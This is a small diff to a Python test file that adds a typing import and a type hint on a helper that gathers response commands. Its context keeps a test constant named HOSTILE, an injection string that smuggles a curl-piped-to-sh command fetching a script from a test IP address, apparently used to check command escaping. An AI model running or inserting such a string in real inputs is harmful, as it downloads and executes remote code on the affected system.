@@ -6,6 +6,7 @@ from __future__ import annotations
 
 import shlex
 from pathlib import Path
+from typing import Any
 
 import pytest
 
@@ -16,7 +17,7 @@ DET = T0 + 600.0
 HOSTILE = "x; curl http://198.18.0.1/p | sh; #"
 
 
-def _commands(a: dict) -> list[str]:
+def _commands(a: dict[str, Any]) -> list[str]:
     return [c for cmds in a["sluice"]["response"].values() if isinstance(cmds, list) for c in cmds]
 
 
